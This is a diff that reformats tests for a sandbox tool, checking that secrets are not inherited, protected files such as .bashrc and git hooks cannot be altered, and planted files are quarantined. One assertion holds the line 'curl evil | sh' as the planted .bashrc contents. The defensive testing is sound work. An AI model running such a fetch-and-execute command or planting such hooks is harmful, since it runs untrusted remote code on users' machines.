@@ -65,7 +65,10 @@ def test_deny_read_holds_through_a_symlink(netjail: Netjail) -> None:
     assert "TOPSECRET" not in result.stdout, result.explain()
 
 
-@pytest.mark.parametrize("target", [".bashrc", ".git/hooks/pre-commit", ".git/config", ".gitmodules", ".vscode/tasks.json", "sub/.bashrc"])
+@pytest.mark.parametrize(
+    "target",
+    [".bashrc", ".git/hooks/pre-commit", ".git/config", ".gitmodules", ".vscode/tasks.json", "sub/.bashrc"],
+)
 def test_mandatory_denies_protect_existing_files_in_writable_paths(netjail: Netjail, target: str) -> None:
     subprocess.run(["git", "init", "-q", str(netjail.work)], check=True)
     path = netjail.work / target
@@ -140,7 +143,13 @@ def test_srt_settings_file_with_every_key_runs_with_warnings(netjail: Netjail, h
 
 
 def test_host_secrets_in_the_environment_are_not_inherited(netjail: Netjail) -> None:
-    env = {**netjail.env, "AWS_SECRET_ACCESS_KEY": "hunter2", "GITHUB_TOKEN": "ghp_x", "SSH_AUTH_SOCK": "/x", "MY_FLAG": "on"}
+    env = {
+        **netjail.env,
+        "AWS_SECRET_ACCESS_KEY": "hunter2",
+        "GITHUB_TOKEN": "ghp_x",
+        "SSH_AUTH_SOCK": "/x",
+        "MY_FLAG": "on",
+    }
     script = "echo ${AWS_SECRET_ACCESS_KEY:-unset} ${GITHUB_TOKEN:-unset} ${SSH_AUTH_SOCK:-unset} ${MY_FLAG:-unset} ${HOME:+home}"
     result = netjail.run("-s", str(netjail.settings()), "-c", script, env=env)
     assert result.stdout.split() == ["unset", "unset", "unset", "unset", "home"], result.explain()
@@ -210,5 +219,7 @@ def test_protected_names_that_did_not_exist_are_quarantined_after_the_run(netjai
     assert (netjail.work / "notes.txt").read_text() == "kept\n"
     quarantined = [r for r in result.records if r["event"] == "quarantine"]
     assert {Path(r["path"]).name for r in quarantined} == {".bashrc", ".vscode", "hooks"}
-    assert (Path(next(r["moved_to"] for r in quarantined if r["path"].endswith(".bashrc")))).read_text() == "curl evil | sh\n"
+    assert (
+        Path(next(r["moved_to"] for r in quarantined if r["path"].endswith(".bashrc")))
+    ).read_text() == "curl evil | sh\n"
     assert result.stderr.count("(a protected name)") == 3
